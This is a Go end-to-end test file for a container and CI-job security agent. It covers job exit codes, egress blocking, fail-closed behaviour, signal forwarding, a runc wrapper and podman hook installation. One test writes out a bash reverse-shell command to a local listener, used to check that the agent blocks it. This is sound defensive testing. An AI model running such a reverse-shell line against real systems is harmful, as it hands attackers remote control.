package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/ocigate/ocigate/internal/testenv"
)

// Runtime integration end to end: `ocigate-agentd run-job` against the
// real agent, the Docker runtime wrapper driving the real runc, and
// `ocigate-agentd install podman` used by a real podman.

// jobTimeout bounds one run-job.
const jobTimeout = 30 * time.Second

type jobResult struct {
	ID             string
	Stdout, Stderr string
	ExitCode       int
}

func (r jobResult) String() string {
	return fmt.Sprintf("job %s: exit %d, stdout %q, stderr %q", r.ID, r.ExitCode, r.Stdout, r.Stderr)
}

// jobCmd is `ocigate-agentd run-job` for workload id (cgroup under the
// e2e parent, so teardown removes what a failed test leaves).
func jobCmd(ctx context.Context, id string, flags []string, command ...string) *exec.Cmd {
	args := append([]string{"run-job", "--socket", socketPath, "--events-file", eventsPath,
		"--cgroup-parent", cgroupParent, "--id", id}, flags...)
	cmd := exec.CommandContext(ctx, agentdBin, append(append(args, "--"), command...)...)
	cmd.WaitDelay = 5 * time.Second
	return cmd
}

func runJob(t *testing.T, name string, flags []string, command ...string) jobResult {
	t.Helper()
	id := newID(name)
	ctx, cancel := context.WithTimeout(context.Background(), jobTimeout)
	defer cancel()
	cmd := jobCmd(ctx, id, flags, command...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	var ee *exec.ExitError
	if err != nil && !errors.As(err, &ee) {
		t.Fatalf("run-job: %v", err)
	}
	res := jobResult{ID: id, Stdout: stdout.String(), Stderr: stderr.String(), ExitCode: cmd.ProcessState.ExitCode()}
	t.Logf("%v", res)
	if ctx.Err() != nil {
		t.Fatalf("run-job did not finish within %v; %v", jobTimeout, res)
	}
	jobGone(t, id)
	return res
}

// jobGone checks that after run-job neither the workload nor its cgroup
// is left.
func jobGone(t *testing.T, id string) {
	t.Helper()
	if ids := workloads(t); contains(ids, id) {
		t.Errorf("job %s still registered: %v", id, ids)
	}
	root, err := testenv.CgroupV2Root()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, cgroupParent, id)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("job cgroup %s left behind (%v)", id, err)
	}
}

// bashExecFailed is bash's exit code when a command's execve fails with
// anything but ENOENT (126).
const bashExecFailed = 126

// A reverse shell as a CI job's command: bash's interactive shell on the
// socket is refused at exec under the reverse-shell profile (killed, or
// its execve failing, by backend), the listener gets no shell, the exit
// code says so and the summary names the refusal.
func TestRunJobReverseShellStopped(t *testing.T) {
	requireE2E(t)
	shell := func(port int) []string {
		return []string{"/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)}
	}
	t.Run("control-unprotected", func(t *testing.T) {
		ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
		ctx, cancel := context.WithTimeout(context.Background(), jobTimeout)
		defer cancel()
		out, err := exec.CommandContext(ctx, shell(ln.Port())[0], shell(ln.Port())[1:]...).CombinedOutput()
		if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
			t.Fatalf("broken test: without ocigate the shell did not answer (listener %q, %v, %s)", ln.Received(), err, out)
		}
	})
	t.Run("protected", func(t *testing.T) {
		ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
		res := runJob(t, "job-revshell", []string{"--profile", "reverse-shell"}, shell(ln.Port())...)
		if !ln.WaitConn(time.Second) {
			t.Errorf("the reverse connection itself (allowed) never arrived; %v", res)
		}
		if ln.WaitReceived(reverseShellAnswer, 2*time.Second) {
			t.Errorf("the attacker got a shell: listener received %q; %v", ln.Received(), res)
		}
		// Where the execve fails, bash says so on its stderr, the socket.
		checkExecExit(t, res, res.ExitCode, ln.Received(), bashExecFailed)
		ev := waitExecRefused(t, res.ID, shellExec(res.ID, "/usr/bin/bash"))
		if ev != nil {
			if o, _ := ev["ocigate"].(map[string]any); o["runtime"] != "job" || o["profile"] != "reverse-shell" {
				t.Errorf("event's workload: %v", o)
			}
		}
		r := execRefusal(t)
		exited := "the command exited 137 (signal 9)"
		if !r.Kills() {
			exited = fmt.Sprintf("the command exited %d\n", bashExecFailed)
		}
		for _, want := range []string{"profile reverse-shell (requested by the registering client: run-job --profile)",
			exited, r.Verdict() + " exec /usr/bin/bash"} {
			if !strings.Contains(res.Stderr, want) {
				t.Errorf("summary lacks %q:\n%s", want, res.Stderr)
			}
		}
	})
}

// A benign job: stdio passes through, its exit code is run-job's, nothing
// is enforced.
func TestRunJobExitCode(t *testing.T) {
	requireE2E(t)
	res := runJob(t, "job-exit", []string{"--profile", "ci-runner"}, "sh", "-c", "grep ^0:: /proc/self/cgroup; echo to-stderr >&2; exit 7")
	if res.ExitCode != 7 {
		t.Errorf("want exit 7; %v", res)
	}
	if want := "0::" + cgroupParent + "/" + res.ID + "\n"; res.Stdout != want {
		t.Errorf("the job ran in %q, want %q", res.Stdout, want)
	}
	if !strings.HasPrefix(res.Stderr, "to-stderr\n") || !strings.Contains(res.Stderr, "profile ci-runner") ||
		!strings.Contains(res.Stderr, "no events for this job") {
		t.Errorf("stderr:\n%s", res.Stderr)
	}
	noEvent(t, res.ID, anyEnforced(res.ID))

	if res := runJob(t, "job-true", nil, "true"); res.ExitCode != 0 || !strings.Contains(res.Stderr, "(default)") {
		t.Errorf("want exit 0 under the default profile; %v", res)
	}
}

// The ci-runner profile's egress allowlist applies to a job: a connect to
// an address outside it is refused.
func TestRunJobCIRunnerEgress(t *testing.T) {
	requireE2E(t)
	res := runJob(t, "job-egress", []string{"--profile", "ci-runner"}, probeBin, "connect", "192.0.2.1:443")
	if strings.TrimSpace(res.Stdout) != "error: operation not permitted" || res.ExitCode != 1 {
		t.Errorf("want the connect refused with EPERM; %v", res)
	}
	waitEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "ocigate.point": "connect", "ocigate.verdict": "denied"})
}

// Fail-closed: with the agent unreachable the command never runs.
func TestRunJobAgentDown(t *testing.T) {
	requireE2E(t)
	marker := filepath.Join(t.TempDir(), "ran")
	res := runJob(t, "job-down", []string{"--socket", filepath.Join(t.TempDir(), "none.sock")}, "touch", marker)
	if res.ExitCode != 125 || !strings.Contains(res.Stderr, "fail-closed") || !strings.Contains(res.Stderr, "not reachable") {
		t.Errorf("want exit 125 and a fail-closed error; %v", res)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("the command ran without the agent")
	}
}

// SIGTERM to run-job reaches the command; run-job exits 143 and cleans up.
func TestRunJobForwardsSIGTERM(t *testing.T) {
	requireE2E(t)
	id := newID("job-sigterm")
	ctx, cancel := context.WithTimeout(context.Background(), jobTimeout)
	defer cancel()
	cmd := jobCmd(ctx, id, nil, "sleep", "60")
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for !contains(workloads(t), id) {
		if time.Now().After(deadline) {
			_ = cmd.Process.Kill()
			_ = cmd.Wait()
			t.Fatalf("job never registered; stderr %s", stderr.String())
		}
		time.Sleep(50 * time.Millisecond)
	}
	time.Sleep(200 * time.Millisecond) // the stub has exec'd sleep
	start := time.Now()
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	if code := cmd.ProcessState.ExitCode(); code != 143 || time.Since(start) > 5*time.Second {
		t.Errorf("exit %d after %v, want 143 promptly; stderr %s", code, time.Since(start), stderr.String())
	}
	jobGone(t, id)
}

var (
	wrapperOnce sync.Once
	wrapperBin  string
	wrapperErr  error
)

func buildWrapper(t *testing.T) string {
	t.Helper()
	wrapperOnce.Do(func() {
		wrapperBin = filepath.Join(binDir, "ocigate-runc")
		wrapperErr = goBuild("./cmd/runtime-wrapper", wrapperBin)
	})
	if wrapperErr != nil {
		t.Fatal(wrapperErr)
	}
	return wrapperBin
}

// runThroughWrapper runs a bundle without hooks the way Docker's shim
// would run a runtime named ocigate: ocigate-runc [runtimeArgs] run.
func runThroughWrapper(t *testing.T, o ctrOpts, wrapper bool) (ctrResult, string) {
	t.Helper()
	id := newID(o.Name)
	bundle := filepath.Join(t.TempDir(), "bundle")
	if err := os.MkdirAll(bundle, 0o755); err != nil {
		t.Fatal(err)
	}
	o.NoHook = true
	if err := testenv.WriteBundle(bundle, bundleFor(id, o)); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cleanupContainer(t, id) })
	bin, args := testenv.RuncPath, []string{"run", "--bundle", bundle, id}
	if wrapper {
		bin = buildWrapper(t)
		args = append([]string{"--ocigate-runc=" + testenv.RuncPath, "--ocigate-hook=" + hookBin, "--ocigate-socket=" + socketPath}, args...)
	}
	ctx, cancel := context.WithTimeout(context.Background(), containerTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.WaitDelay = 5 * time.Second
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	var ee *exec.ExitError
	if err != nil && !errors.As(err, &ee) {
		t.Fatalf("%s: %v", bin, err)
	}
	res := ctrResult{ID: id, Stdout: stdout.String(), Stderr: stderr.String(), ExitCode: cmd.ProcessState.ExitCode()}
	t.Logf("%v", res)
	return res, bundle
}

// The Docker wrapper adds the hooks to a bundle that has none and execs
// the real runc: the container is registered before its first program
// (the denied connect fails with EPERM), reported as docker, and poststop
// unregisters it. The same bundle with plain runc is not protected.
func TestWrapperRunc(t *testing.T) {
	requireE2E(t)
	probe := []string{"/probe", "connect", deniedAddr}
	t.Run("control-plain-runc", func(t *testing.T) {
		res, _ := runThroughWrapper(t, ctrOpts{Name: "wrapper-control", Args: probe}, false)
		if strings.Contains(res.Stdout, "operation not permitted") {
			t.Errorf("plain runc without hooks was enforced; %v", res)
		}
	})
	t.Run("wrapper", func(t *testing.T) {
		res, bundle := runThroughWrapper(t, ctrOpts{Name: "wrapper", Args: probe}, true)
		if strings.TrimSpace(res.Stdout) != "error: operation not permitted" || res.ExitCode != 1 {
			t.Errorf("want the connect denied with EPERM; %v", res)
		}
		want := deniedConnect(res.ID, "127.0.0.2", 4444)
		want["ocigate.runtime"] = "docker"
		waitEvent(t, res.ID, want)
		if ids := workloads(t); contains(ids, res.ID) {
			t.Errorf("container %s still registered after runc run returned (poststop): %v", res.ID, ids)
		}
		b, err := os.ReadFile(filepath.Join(bundle, "config.json"))
		if err != nil {
			t.Fatal(err)
		}
		var s specs.Spec
		if err := json.Unmarshal(b, &s); err != nil {
			t.Fatal(err)
		}
		if s.Hooks == nil || len(s.Hooks.CreateRuntime) != 1 || len(s.Hooks.Poststop) != 1 || s.Hooks.CreateRuntime[0].Path != hookBin {
			t.Errorf("bundle hooks after the wrapper: %+v", s.Hooks)
		}
	})
}

// `ocigate-agentd install podman` writes the hooks.d files a real podman
// uses; uninstall takes them away again.
func TestInstallPodman(t *testing.T) {
	requireE2E(t)
	testenv.NeedTools(t, testenv.PodmanPath)
	dir := t.TempDir()
	e := podmanEnv{rootfs: filepath.Join(dir, "rootfs"), hooksDir: filepath.Join(dir, "hooks.d")}
	if err := testenv.BuildRootfs(e.rootfs, map[string]string{"/probe": probeBin}); err != nil {
		t.Fatal(err)
	}
	ocigate := func(args ...string) string {
		t.Helper()
		out, err := exec.Command(agentdBin, append(args, "podman", "--hooks-dir", e.hooksDir, "--hook-path", hookBin,
			"--socket", socketPath, "--state-dir", filepath.Join(dir, "state"))...).CombinedOutput()
		if err != nil {
			t.Fatalf("ocigate-agentd %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	if out := ocigate("install"); !strings.Contains(out, "create "+filepath.Join(e.hooksDir, "ocigate-createRuntime.json")) {
		t.Errorf("install output:\n%s", out)
	}
	if out := ocigate("install"); !strings.Contains(out, "nothing to change") {
		t.Errorf("second install output:\n%s", out)
	}
	res := e.run(t, false, "/probe", "connect", deniedAddr)
	if strings.TrimSpace(res.Stdout) != "error: operation not permitted" || res.ExitCode != 1 {
		t.Errorf("want the connect denied with EPERM; got %v", res)
	}
	waitEvent(t, res.ID, deniedConnect(res.ID, "127.0.0.2", 4444))
	ocigate("uninstall")
	if _, err := os.Stat(e.hooksDir); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("uninstall left %s (%v)", e.hooksDir, err)
	}
}
